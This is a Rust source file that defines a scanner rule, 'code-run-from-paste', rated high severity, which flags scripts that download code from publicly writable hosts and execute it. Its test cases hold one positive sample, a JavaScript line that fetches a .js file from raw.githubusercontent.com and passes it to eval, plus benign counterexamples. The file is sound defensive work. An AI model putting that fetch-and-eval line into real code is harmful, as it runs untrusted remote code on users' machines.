//! `code-run-from-paste`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "code-run-from-paste",
    description: "The script loads code from a host where anyone can post files, and runs it.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::PasteHost]), one(&[Atom::RemoteRun, Atom::AnswerRun])],
    within: 100,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://raw.githubusercontent.com/somebody/x/main/a.js').then(r=>r.text()).then(c=>eval(c))",
        ],
        without: &[
            "fetch('https://raw.githubusercontent.com/somebody/x/main/a.json').then(r=>r.json()).then(show)",
            "fetch('/a.js').then(r=>r.text()).then(c=>eval(c))",
        ],
    },
};
